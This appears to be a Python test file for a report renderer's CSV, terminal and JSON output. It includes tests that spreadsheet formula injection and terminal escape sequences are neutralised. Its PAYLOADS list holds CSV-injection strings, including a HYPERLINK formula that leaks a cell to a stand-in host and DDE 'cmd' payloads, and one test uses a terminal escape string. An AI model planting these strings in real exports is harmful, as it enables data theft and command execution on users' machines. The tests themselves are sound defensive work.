"""`relgraph report` output: the columnar `Table` renders exactly as the same rows do."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import datetime, timezone

from hypothesis import given, settings
from hypothesis import strategies as st

from relgraph.cell_safety import FORMULA_STARTS, neutralise
from relgraph.cli.report import Table, _cell, _for_terminal, render

cell = st.one_of(
    st.none(), st.booleans(), st.integers(-10**6, 10**6), st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=8), st.lists(st.text("abc", max_size=3), max_size=3).map(tuple),
    st.just(datetime(2026, 11, 28, 9, 30, tzinfo=timezone.utc)),
)
columns = st.dictionaries(st.text("abcdefgh", min_size=1, max_size=4), st.just(None), min_size=1, max_size=5)


@settings(deadline=None, max_examples=150)
@given(names=columns, data=st.data(), n=st.integers(0, 12))
def test_a_table_renders_as_its_rows(names, data, n):
    uniform = data.draw(st.booleans())
    rows = []
    for _ in range(n):
        if uniform:  # a column of one kind takes the fast paths
            rows.append({name: data.draw(st.floats(-1e9, 1e9) if k % 2 else st.text(max_size=5))
                         for k, name in enumerate(names)})
        else:
            rows.append({name: data.draw(cell) for name in names})
    table = Table({name: [r[name] for r in rows] for name in names})
    # the reference: every cell through `_cell`, one row at a time; CSV read back whole
    parsed = list(csv.reader(io.StringIO(render(table, "csv"), newline="")))
    assert parsed == [list(names), *([str(_cell(v, neutralise)) for v in row.values()] for row in rows)]
    shown = {name: [str(_cell(r[name], _for_terminal)) for r in rows] for name in names}
    widths = [max([len(name), *map(len, shown[name])]) for name in names]
    lines = ["  ".join(name.ljust(w) for name, w in zip(names, widths)), "  ".join("-" * w for w in widths)]
    lines += ["  ".join(shown[name][i].ljust(w) for name, w in zip(names, widths)) for i in range(len(rows))]
    assert render(table, "table") == "\n".join(lines) + "\n"
    for row, line in zip(rows, parsed[1:]):
        for value, text in zip(row.values(), line):
            if type(value) is float and math.isfinite(value):
                assert math.isclose(float(text), value, rel_tol=1e-5, abs_tol=1e-300)


def test_floats_keep_six_significant_digits_and_none_is_empty():
    table = Table({"x": [1234567.0, 0.000123456789, math.nan], "y": [None, "a,b", True]})
    assert render(table, "csv") == 'x,y\n1.23457e+06,\n0.000123457,"a,b"\nnan,True\n'
    assert json.loads(render(table, "json"))[1] == {"x": 0.000123456789, "y": "a,b"}


def test_a_large_table_has_a_short_repr():
    """asyncio.run reprs its main task, result included, when it restores the SIGINT
    handler: a report's table must not repr 100k rows there."""
    table = Table({"score": [0.5] * 100_000, "id": ["c"] * 100_000})
    assert repr(table) == "Table(2 columns x 100000 rows)"


# -- spreadsheet- and terminal-safe cells ------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
]


def test_formula_payloads_come_out_as_text_and_numbers_stay_numbers():
    table = Table({"name": PAYLOADS, "revenue": [-1250.5] * len(PAYLOADS), "count": [-3] * len(PAYLOADS),
                   "competitors": [("=evil", "ok")] * len(PAYLOADS)})
    rows = list(csv.reader(io.StringIO(render(table, "csv"), newline="")))[1:]
    assert [row[0] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows} == {"-1250.5"} and {row[2] for row in rows} == {"-3"}
    assert {row[3] for row in rows} == {"'=evil;ok"}
    assert json.loads(render(table, "json"))[0]["name"] == PAYLOADS[0], "JSON is data, kept as it is"


@settings(deadline=None, max_examples=200)
@given(first=st.sampled_from(sorted(FORMULA_STARTS)), rest=st.text(max_size=20), other=st.text(max_size=20))
def test_no_csv_or_table_cell_starts_like_a_formula(first, rest, other):
    table = Table({"a": [first + rest, other], "b": [other, None]})
    for line in list(csv.reader(io.StringIO(render(table, "csv"), newline="")))[1:]:
        assert all(not cell or cell[0] not in FORMULA_STARTS for cell in line)
    body = render(table, "table").split("\n")[2:]
    assert all(not line or line[0] not in FORMULA_STARTS for line in body)


@settings(deadline=None, max_examples=200)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_a_table_prints_no_control_characters(names):
    table = Table({"name": [n + "\x1b]0;pwned\x07\x9b2J" for n in names]})
    out = render(table, "table")
    assert not [c for c in out if c != "\n" and (ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f)]
    assert "\\x1b]0;pwned\\x07\\x9b2J" in out
